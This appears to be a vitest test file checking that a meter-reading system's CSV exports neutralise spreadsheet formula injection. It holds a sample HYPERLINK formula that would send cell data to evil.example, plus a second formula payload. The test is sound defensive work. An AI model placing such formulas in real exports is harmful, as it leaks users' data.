import { parse } from 'csv-parse/sync';
import iconv from 'iconv-lite';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { TourImportResult } from '../../../src/core/contract/tours.ts';
import type { TestServer } from '../../support/startTestServer.ts';
import { call, companyIds, type Json } from '../support/api.ts';
import { serverFor } from '../support/serverFor.ts';
import { tokensOf, upload } from './tourSupport.ts';

/** what a tablet user types as a note; a spreadsheet would run it and open the link */
const NOTE = '=HYPERLINK("https://evil.example/?d="&A1,"Details")';
/** what a billing system's file may hold in a cell the export writes back */
const ADDRESS = '@SUM(1+1)';

let server: TestServer;
let admin: string;
let riverside: string;
let tablet: string;
beforeAll(async () => {
  server = await serverFor();
  ({ 'admin@example.com': admin } = await tokensOf(server, ['admin@example.com']));
  riverside = String((await companyIds(server))['Riverside Water Works']);
  const tablets = await call<Array<{ uuid: string; name: string }>>(server, 'GET', '/api/tablets/?no_page=true', {
    token: admin,
  });
  tablet = tablets.body.find((t) => t.name === 'Tablet North')!.uuid;
});
afterAll(() => server?.close());

/** a tour read from a file of one converter, assigned and read on a tablet with a note typed there */
async function readTour(converter: string, delimiter: string, encoding: string): Promise<string> {
  const header = ['item_number', 'address', 'meter_serial', 'register_id', 'previous_value', 'read_value', 'note'];
  const row = ['1', ADDRESS, 'F-1', '1', '-5', '', ''];
  const file = iconv.encode([header, row].map((cells) => cells.join(delimiter)).join('\r\n'), encoding);
  const imported = await upload<TourImportResult>(
    server,
    admin,
    { name: 'route.csv', data: file },
    { converter, company: riverside },
  );
  expect(imported.status, imported.text).toBe(201);
  const uuid = imported.body.tour.uuid;
  const assign = await call(server, 'POST', `/api/tours/${uuid}/assignment/`, {
    token: admin,
    json: { tablet },
  });
  expect(assign.status, assign.text).toBe(200);
  const read = await call<Json>(server, 'POST', `/api/tours/${uuid}/upload/`, {
    token: admin,
    json: { readings: [{ item_number: 1, register_id: '1', read_value: 7, note: NOTE }] },
  });
  expect(read.status, read.text).toBe(200);
  return uuid;
}

async function exported(uuid: string, format: string, encoding = 'utf-8'): Promise<string> {
  const response = await fetch(`${server.url}/api/tours/${uuid}/export/?format=${format}`, {
    headers: { Authorization: `Bearer ${admin}` },
  });
  expect(response.status).toBe(200);
  return iconv.decode(Buffer.from(await response.arrayBuffer()), encoding);
}

/** the first data row of an exported table, by column name */
const firstRow = (text: string, delimiter: string) =>
  parse<Record<string, string>>(text, { delimiter, columns: true })[0];

describe('tour CSV exports neutralise formulas', () => {
  it.each([
    ['csv-comma', ',', 'utf-8'],
    ['csv-semicolon', ';', 'windows-1252'],
    ['csv-tab', '\t', 'utf-8'],
  ])(
    'in the converter format of %s: the tablet note and the file cells, not the numbers',
    async (converter, delimiter, encoding) => {
      const uuid = await readTour(converter, delimiter, encoding);
      const row = firstRow(await exported(uuid, 'converter', encoding), delimiter);
      expect(row.note).toBe(`'${NOTE}`);
      expect(row.address).toBe(`'${ADDRESS}`);
      expect(row.previous_value).toBe('-5');
      expect(row.read_value).toBe('7');
    },
  );

  it('in the portal CSV: the tablet note, and negative numbers stay numbers', async () => {
    const uuid = await readTour('csv-comma', ',', 'utf-8');
    const row = firstRow(await exported(uuid, 'csv'), ',');
    expect(row.note).toBe(`'${NOTE}`);
    expect(row.address).toBe(`'${ADDRESS}`);
    expect(row.previous_value).toBe('-5');
    expect(row.min_value).toBe('');
  });
});
